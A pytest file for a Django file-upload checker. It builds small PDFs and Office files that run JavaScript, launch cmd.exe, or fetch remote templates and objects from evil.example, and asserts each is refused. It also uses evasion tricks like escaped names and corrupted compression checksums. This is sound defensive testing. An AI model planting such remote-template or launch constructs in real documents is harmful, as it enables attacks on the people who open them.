"""Documents that would do something by themselves, alone and in an archive."""

import io
import zlib

import pytest
from django.test import override_settings

from common.files.containers import FileRefusedError
from common.files.scan import scan
from common.files.types import checked_kind
from tests.unit.common.files.document_bytes import PDF, ole, open_xml, packed

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(body):
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer<<>>\n%%EOF\n"


def objects(body, *, more=b"/Filter/FlateDecode", pack=zlib.compress):
    return pdf(b"<</Type/ObjStm/N 1/First 4" + more + b">>\nstream\n" + pack(body) + b"\nendstream")


def spoilt(body):
    """The check sum at the end is wrong: viewers show what comes before."""
    return zlib.compress(body)[:-4] + b"xxxx"


def related(kind, target, *, document="docx", mode="External"):
    row = f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    rels = f"<Relationships>{row}</Relationships>".encode("utf-16")
    return open_xml(document, {"word/_rels/settings.xml.rels": rels})


def refusal(data, name):
    with pytest.raises(FileRefusedError) as caught:
        checked_kind(io.BytesIO(data), name)
    assert caught.value.message.endswith("。")
    return caught.value.code


ACTING = {
    "script": pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "escaped": pdf(b"<</S/J#61vaScri#70t /JS(x)>>"),
    "launch": pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
    "form": pdf(b"<</AcroForm<</XFA[(template) 3 0 R]>>>>"),
    "packed": objects(b"2 0 <</S/JavaScript/JS(x)>>"),
    "packed and spoilt": objects(b"2 0 <</S/JavaScript/JS(x)>>", pack=spoilt),
}
HIDDEN = {
    "other filter": objects(b"2 0 <<>>", more=b"/Filter/LZWDecode", pack=bytes.swapcase),
    "predictor": objects(b"2 0 <<>>", more=b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>"),
}
REMOTE = {
    "template": related("attachedTemplate", "https://evil.example/x.dotm"),
    "share": related("attachedTemplate", "file:///\\\\evil.example\\x.dotm"),
    "host": related("attachedTemplate", "file://evil.example/x.dotm"),
    "object": related("oleObject", "mhtml:http://evil.example/x"),
    "picture": related("image", "http://evil.example/x.png", document="xlsx"),
}


@pytest.mark.parametrize("name", ACTING)
def test_a_pdf_that_acts_is_refused_alone_and_in_an_archive(name):
    assert refusal(ACTING[name], "a.pdf") == "scripts"
    assert refusal(packed({"a.pdf": ACTING[name]}), "a.zip") == "scripts"
    assert refusal(packed({"a.txt": ACTING[name]}), "a.zip") == "scripts"


@pytest.mark.parametrize("name", HIDDEN)
def test_a_pdf_that_hides_its_objects_is_refused(name):
    assert refusal(HIDDEN[name], "a.pdf") == "damaged"
    assert refusal(HIDDEN[name] + b"<</Encrypt 9 0 R>>", "a.pdf") == "encrypted"


@pytest.mark.parametrize(
    "data",
    [
        PDF,
        objects(b"2 0 <</S/URI/URI(https://www.changsha.gov.cn)>>"),
        pdf(b"<</Filter/DCTDecode>>\nstream\n\xff\xd8\xff\nendstream"),
        pdf(b"<</First 4 0 R>>\nendobj\n2 0 obj<</Filter/DCTDecode>>\nstream\nx\nendstream"),
        pdf(b"<</Names[/JavaScriptures/LaunchPad]>>"),
    ],
)
def test_a_quiet_pdf_is_kept(data):
    assert checked_kind(io.BytesIO(data), "a.pdf") == "pdf"


@pytest.mark.parametrize("name", REMOTE)
def test_an_office_document_that_fetches_is_refused_alone_and_in_an_archive(name):
    document = "xlsx" if name == "picture" else "docx"
    assert refusal(REMOTE[name], f"a.{document}") == "remote"
    assert refusal(packed({f"a.{document}": REMOTE[name]}), "a.zip") == "remote"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://www.changsha.gov.cn"),
        ("externalLinkPath", "https://example.gov.cn/a.xlsx"),
        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
    ],
)
def test_links_that_a_reader_follows_are_kept(kind, target):
    assert checked_kind(io.BytesIO(related(kind, target)), "a.docx") == "docx"


def test_an_old_document_with_a_remote_template_is_refused():
    table = "https://evil.example/x.dot".encode("utf-16-le")
    data = ole("0Table", "WordDocument", first=table)
    assert refusal(data, "a.doc") == "remote"


@pytest.mark.parametrize(
    "command", ["sh -c 'sleep 60'", "sh -c 'sleep 60 & sleep 60'", "no-such-scanner", "'open"]
)
def test_a_scanner_that_does_not_answer_refuses_the_file(command, monkeypatch, tmp_path):
    monkeypatch.setattr("common.files.scan._SECONDS", 0.2)
    with override_settings(SCAN_COMMAND=command), pytest.raises(FileRefusedError) as caught:
        scan(tmp_path)
    assert (caught.value.code, caught.value.message[-1]) == ("unscanned", "。")
